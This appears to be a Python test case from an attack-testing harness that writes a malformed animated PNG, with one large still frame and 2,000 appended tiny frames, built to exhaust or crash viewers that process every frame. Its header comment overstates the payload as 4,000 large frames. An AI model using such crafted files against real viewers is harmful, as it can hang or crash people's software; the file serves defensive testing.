# Tries: to hide 4,000 large frames, and frames of impossible sizes, behind one still picture (APNG).
# Seen: the still picture is read alone.
# Control: naive
# Flagged: no

import struct
import zlib
from pathlib import Path

from tests.attacks.harness.craft_pictures import OPEN_FRAMES, SIGNATURE, chunk, header, viewed, zeros

REFUSAL = ""


def make(folder: Path, marker: str) -> None:
    side, count = 1900, 2000
    pixels = zeros(side * (1 + side))
    control = struct.pack(">IIIIHHBB", side, side, 0, 0, 1, 1, 0, 0)
    frames = [chunk(b"fcTL", struct.pack(">I", 0) + control)]
    still = chunk(b"IDAT", pixels)
    more = [
        chunk(b"fcTL", struct.pack(">I", 2 * n + 1) + struct.pack(">IIIIHHBB", 8, 8, 0, 0, 1, 1, 1, 0))
        + chunk(b"fdAT", struct.pack(">I", 2 * n + 2) + zlib.compress(bytes(72)))
        for n in range(count)
    ]
    head = header(side, side) + chunk(b"acTL", struct.pack(">II", count + 1, 0))
    (folder / "test_1.png").write_bytes(
        SIGNATURE + head + b"".join([*frames, still, *more]) + chunk(b"IEND", b"")
    )


def naive(folder: Path, marker: str) -> bool:
    """A viewer that goes through all frames is ended by a limit or by an error."""
    return viewed(folder / "test_1.png", OPEN_FRAMES).hurt
